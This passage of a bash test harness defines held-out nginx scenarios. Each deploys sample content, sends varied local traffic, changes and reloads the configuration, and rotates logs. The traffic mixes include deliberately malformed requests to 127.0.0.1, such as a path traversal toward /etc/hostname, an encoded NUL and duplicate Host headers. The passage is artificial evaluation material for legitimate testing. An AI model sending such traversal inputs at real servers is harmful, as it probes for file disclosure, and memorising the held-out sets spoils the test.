  sed -i 's|^worker_processes 2;$|worker_processes 1;|' "$conf"
  # shellcheck disable=SC2016
  sed -i 's|^  keepalive_timeout 5;$|&\n  open_file_cache max=200 inactive=30s;\n  log_format timed '"'"'$remote_addr [$time_local] "$request" $status $body_bytes_sent $request_time'"'"';|' "$conf"
  sed -i "s|^    location /api/ |    location /media/ { access_log $NGINX_DIR/log/media.log timed; }\n    location /fr/ { add_header Content-Language fr; }\n&|" "$conf"
  if ! grep -q media.log "$conf" || ! grep -q '^worker_processes 1;' "$conf"; then die "nginx heldout5: config not changed"; fi
  kill -HUP "$NGINX_PID"
  until_ok nginx_heldout5_lang
}
# nginx_heldout5_lang: /fr/ answers with a Content-Language header (the change is live).
nginx_heldout5_lang() { curl -sI "http://127.0.0.1:$NGINX_PORT/fr/" | grep -qi '^content-language: fr'; }
nginx_heldout5_maint() {
  local n
  mkdir -p "$NGINX_HTML/it"
  for n in index about pricing; do echo "<html lang=\"it\"><body>$n (it)</body></html>" >"$NGINX_HTML/it/$n.html"; done
  rm -f "$NGINX_HTML/es/pricing.html"
  mv "$NGINX_DIR/log/media.log" "$NGINX_DIR/log/media.log.1"
  kill -USR1 "$NGINX_PID"
}
nginx_heldout5_late() {
  cp "$WORK/nginx.conf.orig" "$NGINX_DIR/conf/nginx.conf"
  kill -HUP "$NGINX_PID"
  until_ok heldout5_not nginx_heldout5_lang
}
nginx_heldout5_probe() { heldout5_probe_http "$NGINX_PORT" /; }

# Held out, sixth set (heldout6). Deployed before the start: a careers section (careers/
# with an index and eight job pages under slugs), a 1.2 MB whitepaper PDF under docs/, and
# a status.json. Clients from 127.0.4.1-200 for the careers pages, every fifth page and
# every fifth image (another offset each round) and the whitepaper's first 64 kB; each round
# one more request in turn: a 300 kB POST of feedback to /api/ (accepted), a job that was
# taken down (404), a PUT with Expect: 100-continue (405), a request with two Host headers
# (400), a gzip-accepting client for the CSS and JS. The change: four workers, a /careers/
# location with cache headers and an exact /healthz, tested (`nginx -t`) and reloaded
# (`nginx -s reload`) by the operator inside the cgroup. The maintenance: five new job
# pages published, two taken down, and error.log moved aside with USR1 from outside. The
# late event: back to two workers (HUP from outside) while a slow client (300 kB/s) is
# downloading the whitepaper: the old workers finish that download before they exit.
NGINX_HELDOUT6_JOBS=(backend-engineer site-reliability data-analyst support-lead product-designer
                     security-engineer qa-engineer technical-writer)
nginx_heldout6_deploy() {
  local j
  mkdir -p "$NGINX_HTML/careers" "$NGINX_HTML/docs"
  echo "<html><body>careers</body></html>" >"$NGINX_HTML/careers/index.html"
  for j in "${NGINX_HELDOUT6_JOBS[@]}"; do echo "<html><body>job: $j</body></html>" >"$NGINX_HTML/careers/$j.html"; done
  head -c 1200000 /dev/urandom >"$NGINX_HTML/docs/whitepaper-2026.pdf"
  echo '{"status": "green", "since": "2026-12-01"}' >"$NGINX_HTML/status.json"
}
nginx_heldout6_mix() {
  local r=$HELDOUT6_ROUND i j u=http://127.0.0.1:$NGINX_PORT a
  local paths=(/ /careers/ /status.json /css/site.css /js/app.js)
  for j in "${NGINX_HELDOUT6_JOBS[@]}"; do paths+=("/careers/$j.html"); done
  for i in $(seq $((1 + r % 5)) 5 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 5)) 5 20); do paths+=("/img/$i.png"); done
  heldout6_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout6_addr 1)
  curl -s --interface "$a" -r 0-65535 "$u/docs/whitepaper-2026.pdf" >/dev/null || true
  case $((r % 5)) in
    0) head -c 300000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/api/feedback" ;;
    1) curl -s --interface "$a" "$u/careers/office-manager-$r.html" ;;
    2) curl -s --interface "$a" -X PUT -H 'Expect: 100-continue' --data-binary 'draft' "$u/careers/index.html" ;;
    3) heldout3_raw "$NGINX_PORT" "$a" 'GET /careers/ HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nConnection: close\r\n\r\n' ;;
    4) curl -s --interface "$a" --compressed "$u/css/site.css" "$u/js/app.js" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout6_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  sed -i 's|^worker_processes 2;$|worker_processes 4;|' "$conf"
  sed -i 's|^    location /api/ |    location /careers/ { expires 10m; }\n    location = /healthz { return 200 "ok"; }\n&|' "$conf"
  grep -q healthz "$conf" || die "nginx heldout6: config not changed"
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$conf" -t
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$conf" -s reload
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/healthz"
}
nginx_heldout6_maint() {
  local j
  for j in ml-engineer network-engineer account-executive recruiter office-manager; do
    echo "<html><body>job: $j</body></html>" >"$NGINX_HTML/careers/$j.html"
  done
  rm -f "$NGINX_HTML/careers/data-analyst.html" "$NGINX_HTML/careers/qa-engineer.html"
  mv "$NGINX_DIR/log/error.log" "$NGINX_DIR/log/error.log.prev"
  kill -USR1 "$NGINX_PID"
}
nginx_heldout6_late() {
  curl -s --max-time 10 --interface "$(heldout6_addr 9)" --limit-rate 300k \
    "http://127.0.0.1:$NGINX_PORT/docs/whitepaper-2026.pdf" >/dev/null &
  local slow=$!
  sleep 0.5
  sed -i 's|^worker_processes 4;$|worker_processes 2;|' "$NGINX_DIR/conf/nginx.conf"
  grep -q '^worker_processes 2;$' "$NGINX_DIR/conf/nginx.conf" || die "nginx heldout6: config not changed back"
  kill -HUP "$NGINX_PID"
  wait "$slow" || true
  sleep 0.5
}

# Held out, seventh set (heldout7). Deployed before the start: a press section (press/ with
# an index and four quarterly releases), brand assets (two SVG logos and a 900 kB
# press-kit.zip) and a web font. Clients from 127.0.5.1-240 for the press pages, every
# fourth page and every sixth image (another offset each round), the logos and the font;
# each round one more request in turn: a conditional GET of the press index
# (If-Modified-Since: 304), a press-kit download the client gives up on after 0.3 s, a JSON
# POST to /api/subscribe, a release under a name with an encoded space (404), the last
# 500 bytes of the press kit (a suffix range), an HTTP/1.0 request without Host. The
# maintenance, early: the operator inside the cgroup (as www-data) dumps the running
# configuration (`nginx -T`); a release published (2026-q5 is not a quarter: press/
# 2027-q1.html) and the oldest one moved into press/archive/. The change, in the quiet
# period: `server_tokens off`, a request rate limit for /api/ (limit_req_zone), a 2 MB body
# limit and a nosniff header for /press/, HUP from outside. The late event: the press kit
# replaced by a new version (written beside it, renamed over it from outside) while six slow
# clients download it.
nginx_heldout7_deploy() {
  local q
  mkdir -p "$NGINX_HTML/press/archive" "$NGINX_HTML/brand" "$NGINX_HTML/fonts"
  echo "<html><body>press</body></html>" >"$NGINX_HTML/press/index.html"
  for q in 2026-q1 2026-q2 2026-q3 2026-q4; do echo "<html><body>release $q</body></html>" >"$NGINX_HTML/press/$q.html"; done
  echo '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>' >"$NGINX_HTML/brand/logo-dark.svg"
  echo '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>' >"$NGINX_HTML/brand/logo-light.svg"
  head -c 900000 /dev/urandom >"$NGINX_HTML/brand/press-kit.zip"
  head -c 40000 /dev/urandom >"$NGINX_HTML/fonts/inter.woff2"
}
nginx_heldout7_mix() {
  local r=$HELDOUT7_ROUND i u=http://127.0.0.1:$NGINX_PORT a f
  local paths=(/ /press/ /brand/logo-dark.svg /brand/logo-light.svg /fonts/inter.woff2 /css/site.css)
  for f in "$NGINX_HTML"/press/*.html; do paths+=("/press/$(basename "$f")"); done
  for i in $(seq $((1 + r % 4)) 4 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 6)) 6 20); do paths+=("/img/$i.png"); done
  heldout7_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout7_addr 1)
  case $((r % 6)) in
    0) curl -s --interface "$a" -H "If-Modified-Since: $(date -u -R)" "$u/press/index.html" ;;
    1) curl -s --interface "$a" --max-time 0.3 --limit-rate 200k "$u/brand/press-kit.zip" ;;
    2) curl -s --interface "$a" -H 'Content-Type: application/json' -d "{\"email\": \"reader$r@example.com\"}" "$u/api/subscribe" ;;
    3) curl -s --interface "$a" "$u/press/2026%20q$r.html" ;;
    4) curl -s --interface "$a" -r -500 "$u/brand/press-kit.zip" ;;
    5) heldout3_raw "$NGINX_PORT" "$a" 'GET /press/ HTTP/1.0\r\n\r\n' ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout7_maint() {
  admin nginx www-data /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -T
  echo "<html><body>release 2027-q1</body></html>" >"$NGINX_HTML/press/2027-q1.html"
  mv "$NGINX_HTML/press/2026-q1.html" "$NGINX_HTML/press/archive/2026-q1.html"
}
nginx_heldout7_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  sed -i 's|^  keepalive_timeout 5;$|&\n  server_tokens off;\n  client_max_body_size 2m;\n  limit_req_zone $binary_remote_addr zone=api:1m rate=50r/s;|' "$conf"
  sed -i 's|^    location /api/ { |    location /press/ { add_header X-Content-Type-Options nosniff; }\n    location /api/ { limit_req zone=api burst=20 nodelay; |' "$conf"
  grep -q 'zone=api burst' "$conf" || die "nginx heldout7: config not changed"
  kill -HUP "$NGINX_PID"
  until_ok nginx_heldout7_nosniff
}
# nginx_heldout7_nosniff: the press pages come with the change's header.
nginx_heldout7_nosniff() { curl -sI "http://127.0.0.1:$NGINX_PORT/press/" | grep -qi '^x-content-type-options: nosniff'; }
nginx_heldout7_late() {
  local i pids=()
  for i in 1 2 3 4 5 6; do
    curl -s --max-time 8 --interface "$(heldout7_addr $((20 + i)))" --limit-rate 400k \
      "http://127.0.0.1:$NGINX_PORT/brand/press-kit.zip" >/dev/null &
    pids+=($!)
  done
  sleep 0.5
  head -c 950000 /dev/urandom >"$NGINX_HTML/brand/.press-kit.zip.new"
  mv "$NGINX_HTML/brand/.press-kit.zip.new" "$NGINX_HTML/brand/press-kit.zip"
  wait "${pids[@]}" || true
}

# Held out, eighth set (heldout8). Deployed before the start: a help centre (help/ with the
# billing, shipping and returns topics, eight articles each), a 700 kB downloadable catalogue
# (downloads/catalog-2027.pdf) and three hero images (img/hero-{spring,summer,autumn}.webp).
# Clients from 127.0.6.1-250 for every third article (another offset each round), every
# seventh page and every fifth image, the hero images and the assets; each round one more
# request in turn: a header line without a colon (400), a 1.5 MB POST (413: above nginx's
# 1 MB default), a topic directory without an index (403), two requests pipelined on one
# connection, a range of the catalogue with an If-Range date that does not match (the whole
# file), a request line with an absolute URI (as a proxy sends it). The
# maintenance: both logs rotated with a timestamp suffix, USR1 to the master (reopen), the
# rotated files compressed at once. The change: an article refresh (the shipping articles
# rewritten, a warranty topic added) and a reload from outside (HUP) with three workers, gzip
# for JSON and CSS and a Cache-Control header for /help/. The late event: a worker killed
# with SIGKILL while six clients download the catalogue; the master starts another.
NGINX_HELDOUT8_TOPICS=(billing shipping returns)
nginx_heldout8_deploy() {
  local t i
  for t in "${NGINX_HELDOUT8_TOPICS[@]}"; do
    mkdir -p "$NGINX_HTML/help/$t"
    for i in $(seq 1 8); do echo "<html><body>$t article $i</body></html>" >"$NGINX_HTML/help/$t/article-$i.html"; done
  done
  mkdir -p "$NGINX_HTML/downloads"
  head -c 700000 /dev/urandom >"$NGINX_HTML/downloads/catalog-2027.pdf"
  for t in spring summer autumn; do head -c 6000 /dev/urandom >"$NGINX_HTML/img/hero-$t.webp"; done
}
nginx_heldout8_mix() {
  local r=$HELDOUT8_ROUND i t u=http://127.0.0.1:$NGINX_PORT a
  local paths=(/ /css/site.css /js/app.js /img/hero-spring.webp /img/hero-summer.webp /img/hero-autumn.webp)
  for t in "${NGINX_HELDOUT8_TOPICS[@]}"; do
    for i in $(seq $((1 + r % 3)) 3 8); do paths+=("/help/$t/article-$i.html"); done
  done
  for i in $(seq $((1 + r % 7)) 7 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 5)) 5 20); do paths+=("/img/$i.png"); done
  heldout8_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout8_addr 1)
  case $((r % 6)) in
    0) heldout3_raw "$NGINX_PORT" "$a" 'GET /help/ HTTP/1.1\r\nHost: x\r\nX-Broken header\r\n\r\n' ;;
    1) head -c 1500000 /dev/zero | curl -s --interface "$a" --data-binary @- "$u/help/billing/article-1.html" ;;
    2) curl -s --interface "$a" "$u/help/returns/" ;;
    3) heldout3_raw "$NGINX_PORT" "$a" 'GET /help/billing/article-2.html HTTP/1.1\r\nHost: x\r\n\r\nGET /css/site.css HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
    4) curl -s --interface "$a" -r 100-199 -H 'If-Range: Mon, 01 Jan 2024 00:00:00 GMT' "$u/downloads/catalog-2027.pdf" ;;
    5) heldout3_raw "$NGINX_PORT" "$a" 'GET http://shop.example/help/ HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n' ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout8_maint() {
  local f stamp
  stamp=$(date +%Y%m%d%H%M%S)
  for f in access error; do mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log.$stamp"; done
  kill -USR1 "$NGINX_PID"
  sleep 0.5
  gzip "$NGINX_DIR/log/access.log.$stamp" "$NGINX_DIR/log/error.log.$stamp"
}
nginx_heldout8_change() {
  local conf=$NGINX_DIR/conf/nginx.conf i
  mkdir -p "$NGINX_HTML/help/warranty"
  for i in $(seq 1 8); do
    echo "<html><body>shipping article $i (updated)</body></html>" >"$NGINX_HTML/help/shipping/article-$i.html"
    echo "<html><body>warranty article $i</body></html>" >"$NGINX_HTML/help/warranty/article-$i.html"
  done
  NGINX_HELDOUT8_TOPICS=(billing shipping returns warranty)
  sed -i 's|^worker_processes 2;$|worker_processes 3;|' "$conf"
  sed -i 's|^  keepalive_timeout 5;$|&\n  gzip on;\n  gzip_types application/json text/css;|' "$conf"
  sed -i 's|^    location /api/ |    location /help/ { add_header Cache-Control "public, max-age=600"; }\n&|' "$conf"
  if ! grep -q 'max-age=600' "$conf" || ! grep -q '^worker_processes 3;' "$conf"; then die "nginx heldout8: config not changed"; fi
  kill -HUP "$NGINX_PID"
  until_ok nginx_heldout8_cached
}
# nginx_heldout8_cached: the help articles come with the change's Cache-Control header.
nginx_heldout8_cached() {
  curl -sI "http://127.0.0.1:$NGINX_PORT/help/billing/article-1.html" | grep -qi '^cache-control: public, max-age=600'
}
nginx_heldout8_late() {
  local i dl
  for i in 41 42 43 44 45 46; do heldout8_addr "$i"; done |
    xargs -P 6 -I{} curl -s -o /dev/null --max-time 8 --interface {} --limit-rate 300k \
      "http://127.0.0.1:$NGINX_PORT/downloads/catalog-2027.pdf" &
  dl=$!
  sleep 0.5
  heldout3_kill_worker "$NGINX_PID"
  wait "$dl" || true
}

# Held out, ninth set (heldout9). Deployed before the start: a recipes section (recipes/ with
# the soup, bread and salad categories, six recipes each), a podcast (audio/ep-01.ogg, 500
# kB) and a web app manifest (manifest.webmanifest). Clients from 127.0.7.1-250 for every
# fourth recipe (another offset each round), every ninth page and every seventh image, the
# manifest and the assets; each round one more request in turn: a range past the end of the
# episode (416), a request line with a lower-case method (400), a bad percent-encoding in
# the path (400), a mobile client that sends its request line and headers over 1.2 s, a
# GET with a 40 kB body (discarded), a conditional GET with an If-Modified-Since date in the
# future. The maintenance: the operator inside the cgroup prints the build options (`nginx
# -V`), then the access log moved into log/old/ with a date and time in its name (logrotate's
# olddir) and USR1 to the master from outside. The change: pretty URLs for the recipes
# (`try_files $uri $uri.html`), a custom 404 page, `client_max_body_size 64k` and `etag off`,
# reloaded by the operator inside the cgroup (`nginx -s reload`, root). The late event: the
# next episode published (audio/ep-02.ogg, from outside) and sixteen players fetch it at once
# in 64 kB ranges.
NGINX_HELDOUT9_CATS=(soup bread salad)
nginx_heldout9_deploy() {
  local c i
  for c in "${NGINX_HELDOUT9_CATS[@]}"; do
    mkdir -p "$NGINX_HTML/recipes/$c"
    for i in $(seq 1 6); do echo "<html><body>$c recipe $i</body></html>" >"$NGINX_HTML/recipes/$c/r$i.html"; done
  done
  mkdir -p "$NGINX_HTML/audio"
  head -c 500000 /dev/urandom >"$NGINX_HTML/audio/ep-01.ogg"
  echo '{"name": "shop", "start_url": "/"}' >"$NGINX_HTML/manifest.webmanifest"
}
NGINX_HELDOUT9_PRETTY=0
nginx_heldout9_mix() {
  local r=$HELDOUT9_ROUND i c u=http://127.0.0.1:$NGINX_PORT a ext=.html
  local paths=(/ /manifest.webmanifest /css/site.css /js/app.js)
  [ "$NGINX_HELDOUT9_PRETTY" = 0 ] || ext=
  for c in "${NGINX_HELDOUT9_CATS[@]}"; do
    for i in $(seq $((1 + r % 4)) 4 6); do paths+=("/recipes/$c/r$i$ext"); done
  done
  for i in $(seq $((1 + r % 9)) 9 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 7)) 7 20); do paths+=("/img/$i.png"); done
  heldout9_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout9_addr 2)
  case $((r % 6)) in
    0) curl -s --interface "$a" -r 600000-700000 "$u/audio/ep-01.ogg" ;;
    1) heldout3_raw "$NGINX_PORT" "$a" 'get /recipes/soup/r1.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
    2) curl -s --interface "$a" --path-as-is "$u/recipes/%zz/r1.html" ;;
    3) { printf 'GET /recipes/bread/r2.html HTTP/1.1\r\n'; sleep 0.4; printf 'Host: x\r\nUser-Agent: mobile\r\n'; sleep 0.8
         printf 'Connection: close\r\n\r\n'; sleep 0.3; } | socat -t 1 - "TCP:127.0.0.1:$NGINX_PORT,bind=$a" ;;
    4) head -c 40000 /dev/zero | curl -s --interface "$a" -X GET --data-binary @- "$u/recipes/salad/r3.html" ;;
    5) curl -s --interface "$a" -H 'If-Modified-Since: Fri, 01 Jan 2038 00:00:00 GMT' "$u/css/site.css" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout9_maint() {
  admin nginx root /usr/sbin/nginx -V
  mkdir -p "$NGINX_DIR/log/old"
  mv "$NGINX_DIR/log/access.log" "$NGINX_DIR/log/old/access.log-$(date +%Y%m%d-%H%M)"
  kill -USR1 "$NGINX_PID"
  until_ok test -e "$NGINX_DIR/log/access.log"
}
nginx_heldout9_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  echo "<html><body>not here</body></html>" >"$NGINX_HTML/404.html"
  sed -i 's|^  keepalive_timeout 5;$|&\n  client_max_body_size 64k;\n  etag off;|' "$conf"
  sed -i 's|^    location /api/ |    location /recipes/ { try_files $uri $uri.html =404; }\n    error_page 404 /404.html;\n&|' "$conf"
  if ! grep -q 'uri.html =404' "$conf" || ! grep -q '^  etag off;' "$conf"; then die "nginx heldout9: config not changed"; fi
  admin nginx root /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$conf" -s reload
  until_ok curl -sf "http://127.0.0.1:$NGINX_PORT/recipes/soup/r1"
  NGINX_HELDOUT9_PRETTY=1
}
nginx_heldout9_late() {
  local i j
  head -c 500000 /dev/urandom >"$NGINX_HTML/audio/.ep-02.ogg.tmp"
  mv "$NGINX_HTML/audio/.ep-02.ogg.tmp" "$NGINX_HTML/audio/ep-02.ogg"
  for i in $(seq 1 16); do
    j=$((i % 7))
    echo "$(heldout9_addr $((60 + i))) $((j * 65536))-$((j * 65536 + 65535)) $(((j + 1) * 65536))-$(((j + 1) * 65536 + 65535))"
  done | xargs -P 16 -L 1 sh -c 'curl -s --max-time 5 --interface "$1" -r "$2" "$0" --next -s --max-time 5 \
    --interface "$1" -r "$3" "$0" >/dev/null' "http://127.0.0.1:$NGINX_PORT/audio/ep-02.ogg" || true
}

# Held out, tenth set (heldout10). Deployed before the start: a documentation section
# (docs/v1 and docs/v2, eight guides each, docs/current a symlink to v2), web fonts (fonts/,
# four 30 kB woff2 files) and a sitemap.xml. Clients from 127.0.8.1-250 for every fifth page
# and every sixth image (another offset each round), two guides through docs/current, a
# font, the sitemap and the assets, and the sitemap once more with gzip accepted; each round
# one more request in turn: a 20 kB POST to the sitemap (405), a request with a 12 kB header
# (400), an HTTP/1.0 request without Host, the docs directory itself (no index: 403), a path
# that climbs above the root (400), three byte ranges of a font in one request (a multipart
# answer). The change, early: gzip for CSS, JavaScript and XML, `expires 1h` for /docs/ and
# one worker instead of two (`worker_processes 1`), HUP to the master from outside. The late
# event: docs v3 published from outside and docs/current swapped to it at once (a new symlink
# renamed over the old one), then a round. The maintenance: the access log renamed to
# access.log.1, reopened by the operator inside the cgroup (`nginx -s reopen`, root), the
# old one compressed.
NGINX_HELDOUT10_GUIDES=(install configure upgrade backup restore tuning security faq)
nginx_heldout10_deploy() {
  local v g i
  for v in v1 v2; do
    mkdir -p "$NGINX_HTML/docs/$v"
    for g in "${NGINX_HELDOUT10_GUIDES[@]}"; do echo "<html><body>$v: $g</body></html>" >"$NGINX_HTML/docs/$v/$g.html"; done
  done
  ln -s v2 "$NGINX_HTML/docs/current"
  mkdir -p "$NGINX_HTML/fonts"
  for i in 1 2 3 4; do head -c 30000 /dev/urandom >"$NGINX_HTML/fonts/f$i.woff2"; done
  { echo '<?xml version="1.0"?><urlset>'
    for i in $(seq -w 1 40); do echo "<url><loc>/page$i.html</loc></url>"; done
    echo '</urlset>'; } >"$NGINX_HTML/sitemap.xml"
}
nginx_heldout10_mix() {
  local r=$HELDOUT10_ROUND i u=http://127.0.0.1:$NGINX_PORT a g=("${NGINX_HELDOUT10_GUIDES[@]}")
  local paths=(/ /sitemap.xml /css/site.css /js/app.js "/fonts/f$((1 + r % 4)).woff2"
               "/docs/current/${g[r % 8]}.html" "/docs/current/${g[(r + 3) % 8]}.html")
  for i in $(seq $((1 + r % 5)) 5 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 6)) 6 20); do paths+=("/img/$i.png"); done
  heldout10_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout10_addr 3)
  curl -s --compressed --interface "$a" "$u/sitemap.xml" >/dev/null 2>&1 || true
  case $((r % 6)) in
    0) head -c 20000 /dev/zero | curl -s --interface "$a" --data-binary @- "$u/sitemap.xml" ;;
    1) curl -s --interface "$a" -H "X-Trace: $(head -c 12000 /dev/zero | tr '\0' t)" "$u/page01.html" ;;
    2) heldout3_raw "$NGINX_PORT" "$a" 'GET /sitemap.xml HTTP/1.0\r\n\r\n' ;;
    3) curl -s --interface "$a" "$u/docs/" ;;
    4) curl -s --interface "$a" --path-as-is "$u/../../etc/hostname" ;;
    5) curl -s --interface "$a" -r 0-99,200-299,1000-1099 "$u/fonts/f$((1 + r % 4)).woff2" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout10_change() {
  local conf=$NGINX_DIR/conf/nginx.conf
  sed -i 's|^worker_processes 2;$|worker_processes 1;|' "$conf"
  sed -i 's|^  keepalive_timeout 5;$|&\n  gzip on;\n  gzip_types text/css application/javascript application/xml;|' "$conf"
  sed -i 's|^    location /api/ |    location /docs/ { expires 1h; }\n&|' "$conf"
  if ! grep -q '^worker_processes 1;' "$conf" || ! grep -q 'expires 1h' "$conf" || ! grep -q '^  gzip on;' "$conf"; then
    die "nginx heldout10: config not changed"
  fi
  kill -HUP "$NGINX_PID"
  until_ok nginx_heldout10_expires
}
# nginx_heldout10_expires: the guides come with the change's Expires header.
nginx_heldout10_expires() { curl -sI "http://127.0.0.1:$NGINX_PORT/docs/current/faq.html" | grep -qi '^expires:'; }
nginx_heldout10_maint() {
  mv "$NGINX_DIR/log/access.log" "$NGINX_DIR/log/access.log.1"
  admin nginx root /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reopen
  until_ok test -e "$NGINX_DIR/log/access.log"
  gzip "$NGINX_DIR/log/access.log.1"
}
nginx_heldout10_late() {
  local g
  mkdir -p "$NGINX_HTML/docs/v3"
  for g in "${NGINX_HELDOUT10_GUIDES[@]}"; do echo "<html><body>v3: $g</body></html>" >"$NGINX_HTML/docs/v3/$g.html"; done
  ln -s v3 "$NGINX_HTML/docs/.current.new"
  mv -T "$NGINX_HTML/docs/.current.new" "$NGINX_HTML/docs/current"
  curl -s "http://127.0.0.1:$NGINX_PORT/docs/current/faq.html" | grep -q v3 || die "nginx heldout10: docs v3 not served"
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  nginx_heldout10_mix
}

# Held out, eleventh set (heldout11). Deployed before the start: an events section
# (events/2027/e01-12.html), a 900 kB trailer (video/trailer.mp4) and an Atom feed
# (feed.atom). Clients from 127.0.9.1-250 for every fourth page and every fifth image
# (another offset each round), three events, the feed and the assets; each round one more
# request in turn: a 300 kB PUT to the feed (405), a path with an encoded NUL byte (400), the
# feed again with an If-None-Match of its ETag (304), the trailer downloaded at 2 MB/s, an
# OPTIONS request (405), a 6 kB query string. The maintenance, early: the error log renamed
# with a date suffix, an empty one created for www-data (logrotate's `create`) and reopened
# by the operator inside the cgroup (`nginx -s reopen`, root). The change, in the middle: an
# `include conf.d/*.conf` line at the end of the http block (after the site's server, which
# stays the default) and a snippet in conf.d/ with a second virtual host on the same port
# (`server_name status.shop.test`, its own root with a status page and a JSON health file),
# tested (`nginx -t`) and reloaded (`nginx -s reload`) by the operator inside the cgroup
# (root); the rounds after it also ask the new host. The late event: a cache warm-up, a CDN's
# prefetch of every page, event and image once over four keep-alive connections.
NGINX_HELDOUT11_VHOST=0
nginx_heldout11_deploy() {
  local i
  mkdir -p "$NGINX_HTML/events/2027" "$NGINX_HTML/video"
  for i in $(seq -w 1 12); do echo "<html><body>event $i of 2027</body></html>" >"$NGINX_HTML/events/2027/e$i.html"; done
  head -c 900000 /dev/urandom >"$NGINX_HTML/video/trailer.mp4"
  { echo '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>events</title>'
    for i in $(seq -w 1 12); do echo "<entry><title>event $i</title><link href=\"/events/2027/e$i.html\"/></entry>"; done
    echo '</feed>'; } >"$NGINX_HTML/feed.atom"
}
nginx_heldout11_mix() {
  local r=$HELDOUT11_ROUND i u=http://127.0.0.1:$NGINX_PORT a etag
  local paths=(/ /feed.atom /css/site.css /js/app.js)
  for i in $((1 + r % 12)) $((1 + (r + 4) % 12)) $((1 + (r + 8) % 12)); do paths+=("/events/2027/e$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 4)) 4 40); do paths+=("/page$(printf %02d "$i").html"); done
  for i in $(seq $((1 + r % 5)) 5 20); do paths+=("/img/$i.png"); done
  heldout11_get "$NGINX_PORT" "${paths[@]}"
  a=$(heldout11_addr 7)
  if [ "$NGINX_HELDOUT11_VHOST" = 1 ]; then
    curl -s --interface "$a" -H 'Host: status.shop.test' "$u/" "$u/health.json" >/dev/null 2>&1 || true
  fi
  case $((r % 6)) in
    0) head -c 300000 /dev/zero | curl -s --interface "$a" -T - "$u/feed.atom" ;;
    1) curl -s --interface "$a" --path-as-is "$u/events/2027/e01%00.html" ;;
    2) etag=$(curl -sI "$u/feed.atom" | awk -F': ' 'tolower($1) == "etag" { print $2 }' | tr -d '\r')
       curl -s --interface "$a" -H "If-None-Match: $etag" "$u/feed.atom" ;;
    3) curl -s --interface "$a" --limit-rate 2M "$u/video/trailer.mp4" ;;
    4) curl -s --interface "$a" -X OPTIONS "$u/" ;;
    5) curl -s --interface "$a" "$u/page02.html?ref=$(head -c 6000 /dev/zero | tr '\0' r)" ;;
  esac >/dev/null 2>&1 || true
}
nginx_heldout11_maint() {
  mv "$NGINX_DIR/log/error.log" "$NGINX_DIR/log/error.log-$(date +%Y%m%d)"
  # A new, empty one for the server's user, as logrotate's `create` does (the master, not
  # root, reopens it).
  install -m 640 -o www-data -g adm /dev/null "$NGINX_DIR/log/error.log"
  admin nginx root /usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf" -s reopen
}
nginx_heldout11_change() {
  local conf=$NGINX_DIR/conf/nginx.conf nginx=(/usr/sbin/nginx -e "$NGINX_DIR/log/error.log" -c "$NGINX_DIR/conf/nginx.conf")
  mkdir -p "$NGINX_DIR/conf/conf.d" "$NGINX_DIR/status"
  echo "<html><body>all systems normal</body></html>" >"$NGINX_DIR/status/index.html"
  echo '{"status": "ok"}' >"$NGINX_DIR/status/health.json"
  cat >"$NGINX_DIR/conf/conf.d/status.conf" <<CONF
server {
  listen 127.0.0.1:$NGINX_PORT;
  server_name status.shop.test;
  root $NGINX_DIR/status;
  index index.html;
  location = /health.json { default_type application/json; }
}
CONF
  sed -i '$d' "$conf"   # the http block's closing brace: the snippets come after the first server
  printf '  include %s;\n}\n' "$NGINX_DIR/conf/conf.d/*.conf" >>"$conf"
  grep -q 'include .*conf.d/\*.conf;' "$conf" || die "nginx heldout11: config not changed"
  admin nginx root "${nginx[@]}" -t -q
  admin nginx root "${nginx[@]}" -s reload
  until_ok nginx_heldout11_status
  NGINX_HELDOUT11_VHOST=1
}
# nginx_heldout11_status: the new virtual host answers.
nginx_heldout11_status() { curl -s -H 'Host: status.shop.test' "http://127.0.0.1:$NGINX_PORT/" | grep -q 'all systems'; }
nginx_heldout11_late() {
  local i paths=(/ /feed.atom)
  for i in $(seq -w 1 40); do paths+=("/page$i.html"); done
  for i in $(seq -w 1 12); do paths+=("/events/2027/e$i.html"); done
  for i in $(seq 1 20); do paths+=("/img/$i.png"); done
  heldout11_crawl "$NGINX_PORT" 4 "${paths[@]}"
}

# Held out, twelfth set (heldout12). Deployed before the start: a blog (blog/post01-15.html),
